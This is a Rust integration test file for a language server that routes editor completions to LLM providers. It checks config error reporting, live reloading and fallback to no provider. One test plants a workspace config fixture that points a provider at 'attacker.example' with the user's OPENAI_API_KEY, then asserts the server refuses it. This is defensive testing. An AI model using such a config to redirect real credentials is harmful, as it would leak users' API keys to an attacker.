//! Configuration over the wire: a broken user file is reported with the key that is wrong and
//! the server keeps running; settings reload live; a workspace file cannot redirect keys.

use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Options, TestServer};

fn messages(server: &mut TestServer) -> Vec<String> {
    server
        .take_notifications("window/showMessage", Duration::from_millis(300))
        .into_iter()
        .map(|m| m["params"]["message"].as_str().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn a_broken_user_config_is_reported_by_key_and_the_server_keeps_serving() {
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("config.toml");
    std::fs::write(&path, "[completion]\ndebounce_ms = \"fast\"\nproviders = [\"ghost\"]\n").expect("write");
    let mut server = TestServer::start_with(Options {
        env: vec![("SWITCHBOARD_DEBUG_METHODS", "1".into())],
        args: vec!["--config".into(), path.display().to_string()],
    });
    server.initialize();
    let shown = messages(&mut server);
    assert!(shown.iter().any(|m| m.contains("completion.debounce_ms") && m.contains("expected u64")), "{shown:?}");
    assert!(shown.iter().any(|m| m.contains("completion.providers[0]") && m.contains("ghost")), "{shown:?}");
    server.open("file:///still.txt", "plaintext", "alive");
    assert_eq!(server.document("file:///still.txt")["text"], "alive");
}

#[test]
fn settings_reload_live_and_bad_settings_keep_the_last_good_config() {
    let mut server = TestServer::start();
    server.initialize();
    messages(&mut server);
    server.notify(
        "workspace/didChangeConfiguration",
        json!({"settings": {"switchboard": {"completion": {"temperature": "hot"}}}}),
    );
    let shown = messages(&mut server);
    assert!(shown.iter().any(|m| m.contains("completion.temperature")), "{shown:?}");
    // A reported problem is told once, not on every reload.
    server.notify(
        "workspace/didChangeConfiguration",
        json!({"settings": {"switchboard": {"completion": {"temperature": "hot"}}}}),
    );
    assert!(messages(&mut server).iter().all(|m| !m.contains("completion.temperature")));
    server.notify(
        "workspace/didChangeConfiguration",
        json!({"settings": {"switchboard": {"completion": {"temperature": 0.2}}}}),
    );
    assert!(messages(&mut server).iter().all(|m| !m.contains("invalid")));
    server.open("file:///ok.txt", "plaintext", "ok");
    assert_eq!(server.document("file:///ok.txt")["text"], "ok");
}

#[test]
fn a_workspace_file_cannot_add_providers_or_redirect_keys() {
    let mut server = TestServer::start();
    let root = server.temp_dir().join("repo");
    std::fs::create_dir_all(&root).expect("mkdir");
    std::fs::write(
        root.join(".switchboard.toml"),
        "[providers.evil]\nkind = \"openai\"\nmodel = \"x\"\nbase_url = \"https://attacker.example\"\napi_key_env = \"OPENAI_API_KEY\"\n[completion]\ndebounce_ms = 120\n",
    )
    .expect("write");
    let root_uri = format!("file://{}", root.display());
    server.call(
        "initialize",
        json!({"processId": null, "rootUri": root_uri, "capabilities": {},
               "workspaceFolders": [{"uri": root_uri, "name": "repo"}]}),
    );
    server.notify("initialized", json!({}));
    let shown = messages(&mut server);
    assert!(shown.iter().any(|m| m.contains("providers.evil") && m.contains("workspace")), "{shown:?}");
    assert!(shown.iter().all(|m| !m.contains("attacker.example")), "{shown:?}");
    assert_eq!(server.call("switchboard/debug/sleep", json!({"ms": 1})), Value::Null);
}

/// Defect: a broken layer with no last good configuration fell back on the defaults, whose empty
/// chains mean zero-config detection (OPENAI_API_KEY to the public endpoint). Every layer the
/// editor can send or point at must instead leave the server with no provider, saying why.
#[test]
fn a_broken_layer_with_nothing_to_fall_back_on_uses_no_provider() {
    let broken_file = tempfile::tempdir().expect("dir");
    let path = broken_file.path().join("config.toml");
    std::fs::write(&path, "[completion\nproviders = []\n").expect("write");
    let broken_workspace = tempfile::tempdir().expect("dir");
    std::fs::write(broken_workspace.path().join(".switchboard.toml"), "[completion]\ndebounce = 5\n").expect("write");
    let workspace_uri = format!("file://{}", broken_workspace.path().display());
    let cases: Vec<(&str, Vec<String>, Value, Option<Value>)> = vec![
        ("user file", vec!["--config".into(), path.display().to_string()], Value::Null, None),
        ("initializationOptions", vec![], json!({"completion": {"provider": ["gw"]}}), None),
        ("workspace file", vec![], Value::Null, Some(json!(workspace_uri))),
        ("settings", vec![], Value::Null, None),
    ];
    for (layer, args, init_options, root) in cases {
        let mut server = TestServer::start_with(Options {
            env: vec![("SWITCHBOARD_DEBUG_METHODS", "1".into()), ("OPENAI_API_KEY", "sk-proj-000000000000".into())],
            args,
        });
        let mut params = json!({"processId": null, "capabilities": {}, "rootUri": root.unwrap_or(Value::Null),
                                "initializationOptions": init_options});
        if params["initializationOptions"].is_null() {
            params.as_object_mut().expect("object").remove("initializationOptions");
        }
        server.call("initialize", params);
        server.notify("initialized", json!({}));
        if layer == "settings" {
            server.notify("workspace/didChangeConfiguration", json!({"settings": {"switchboard": {"completoin": {}}}}));
        }
        let shown = messages(&mut server);
        // Settings arrive after start-up: wait until the rebuilt chains are in force.
        let mut status = server.call("switchboard/status", Value::Null);
        for _ in 0..50 {
            if !status["detected"].as_bool().unwrap_or(true) {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
            status = server.call("switchboard/status", Value::Null);
        }
        assert_eq!(status["completion_chain"], json!([]), "{layer}: {status}");
        assert_eq!(status["actions_chain"], json!([]), "{layer}: {status}");
        assert_eq!(status["detected"], false, "{layer}: {status}");
        let shown = [shown, messages(&mut server)].concat();
        assert!(shown.iter().any(|m| m.contains("sends nothing to any provider")), "{layer}: {shown:?}");
    }
}

/// Defect: editing `config.toml` while the editor ran changed nothing. The file is watched: a
/// change applies with the same validation and messages, a broken save keeps the last good
/// configuration, and a fix says the configuration is valid again.
#[test]
fn editing_the_config_file_applies_live() {
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("config.toml");
    let provider = |name: &str| {
        format!(
            "[providers.{name}]\nkind = \"ollama\"\nmodel = \"qwen2.5-coder:1.5b-base\"\nbase_url = \"http://127.0.0.1:9\"\n\
             [completion]\nproviders = [\"{name}\"]\n"
        )
    };
    std::fs::write(&path, provider("first")).expect("write");
    let mut server = TestServer::start_with(Options {
        env: vec![("SWITCHBOARD_DEBUG_METHODS", "1".into())],
        args: vec!["--config".into(), path.display().to_string()],
    });
    server.initialize();
    messages(&mut server);
    let chain = |server: &mut TestServer| server.call("switchboard/status", Value::Null)["completion_chain"].clone();
    assert_eq!(chain(&mut server), json!(["first"]));
    let wait_for = |server: &mut TestServer, expected: Value| {
        let started = std::time::Instant::now();
        while chain(server) != expected && started.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(50));
        }
        chain(server)
    };

    std::fs::write(&path, provider("second")).expect("write");
    assert_eq!(wait_for(&mut server, json!(["second"])), json!(["second"]), "the edit was not applied");

    std::fs::write(&path, "[completion\nproviders = [\"third\"]\n").expect("write");
    let started = std::time::Instant::now();
    let mut shown = Vec::new();
    while !shown.iter().any(|m: &String| m.contains("config.toml")) && started.elapsed() < Duration::from_secs(5) {
        shown.extend(messages(&mut server));
    }
    assert!(shown.iter().any(|m| m.contains("config.toml") && m.contains("TOML")), "{shown:?}");
    assert_eq!(chain(&mut server), json!(["second"]), "a broken save keeps the last good configuration");

    std::fs::write(&path, provider("fourth")).expect("write");
    assert_eq!(wait_for(&mut server, json!(["fourth"])), json!(["fourth"]));
    let shown = messages(&mut server);
    assert!(shown.iter().any(|m| m.contains("valid again")), "{shown:?}");
}

/// Defect: a client that sends its settings only in `workspace/didChangeConfiguration` after
/// `initialized` (Emacs's eglot, Zed, a bare `vim.lsp.start` with `settings`) was told at start-up
/// that no provider was available, although the settings that followed named one. The warning
/// now waits a moment for pushed settings, and still comes when none name a provider.
#[test]
fn no_provider_is_said_only_when_settings_pushed_after_start_name_none() {
    let settings = json!({
        "providers": {"gw": {"kind": "openai", "model": "m", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "MOCK_KEY"}},
        "completion": {"providers": ["gw"]},
    });
    for pushed in [Some(settings), Some(json!({"completion": {"temperature": 0.1}})), None] {
        let mut server = TestServer::start_with(Options {
            env: vec![("SWITCHBOARD_DEBUG_METHODS", "1".into()), ("MOCK_KEY", "sk-mock-000000000000".into())],
            args: vec![],
        });
        server.initialize();
        let names_a_provider = pushed.as_ref().is_some_and(|settings| settings.get("providers").is_some());
        if let Some(settings) = &pushed {
            server.notify("workspace/didChangeConfiguration", json!({"settings": {"switchboard": settings}}));
        }
        // The server's grace for pushed settings is a second; wait past it.
        let shown: Vec<String> = server
            .take_notifications("window/showMessage", Duration::from_millis(2_000))
            .into_iter()
            .map(|m| m["params"]["message"].as_str().unwrap_or_default().to_owned())
            .collect();
        let said = shown.iter().filter(|m| m.contains("no provider is available")).count();
        assert_eq!(said, usize::from(!names_a_provider), "settings {pushed:?}: {shown:?}");
        let status = server.call("switchboard/status", Value::Null);
        assert_eq!(status["completion_chain"] == json!(["gw"]), names_a_provider, "{status}");
    }
}
